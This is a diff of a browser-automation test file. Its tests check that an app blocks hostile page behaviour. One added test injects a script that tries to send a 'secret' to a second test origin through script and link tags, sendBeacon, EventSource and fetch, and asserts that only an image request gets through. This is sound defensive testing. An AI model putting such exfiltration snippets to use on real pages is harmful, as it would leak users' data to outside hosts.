@@ -211,6 +211,37 @@ test('a page that sends a file', async ({ service, launch }) => {
   await gotNothing(run, service);
 });
 
+test('a page that sends what it knows elsewhere, by everything but a picture', async ({
+  service,
+  elsewhere,
+  launch,
+}) => {
+  const run = await launch(service.origin, service.origin, elsewhere.origin);
+  service.serve(page('<p>Approve</p>'));
+  await begin(run, service);
+  const to = elsewhere.origin;
+  await run.askProgram(
+    'press',
+    `(async () => {
+      const add = (name, facts) => document.head.append(Object.assign(document.createElement(name), facts));
+      add('script', { src: '${to}/script' });
+      add('link', { rel: 'stylesheet', href: '${to}/style' });
+      add('link', { rel: 'prefetch', href: '${to}/prefetch' });
+      navigator.sendBeacon('${to}/beacon', 'secret');
+      new EventSource('${to}/events');
+      await fetch('${to}/fetch', { mode: 'no-cors' }).catch(() => undefined);
+      await new Promise((resolve) => {
+        const picture = new Image();
+        picture.onload = picture.onerror = resolve;
+        picture.src = '${to}/picture';
+      });
+    })()`,
+  );
+  await pause(300);
+  expect(elsewhere.visits).toEqual(['GET /picture']);
+  await gotNothing(run, service);
+});
+
 test('a page that asks for permissions', async ({ service, launch }) => {
   const run = await launch(service.origin);
   service.serve(page(''));
@@ -231,7 +262,7 @@ test('a page that asks for permissions', async ({ service, launch }) => {
 });
 
 test('a page that never ends loading', async ({ service, launch }) => {
-  const run = await launch(service.origin, service.origin, '200');
+  const run = await launch(service.origin, service.origin, service.origin, '200');
   service.serve((_request, response) => {
     response.writeHead(200, { 'Content-Type': 'text/html' });
     response.write('<!doctype html>');
@@ -257,7 +288,11 @@ test('a page that does not want to be left', async ({ service, launch }) => {
   expect(await run.ask('recorded')).toContainEqual(
     expect.objectContaining({ call: 'beforeunload', answer: 'overruled' }),
   );
-  // Nor when the app closes it, in the middle of a script without end.
+  // Nor in the middle of a script without end, whether the person closes it or the app.
+  await begin(run, service);
+  void run.askProgram('press', `for (;;) {}`).catch(() => undefined);
+  await run.askProgram('close');
+  await reaches(run, 'ended');
   await begin(run, service);
   void run.askProgram('press', `for (;;) {}`).catch(() => undefined);
   await gotNothing(run, service);
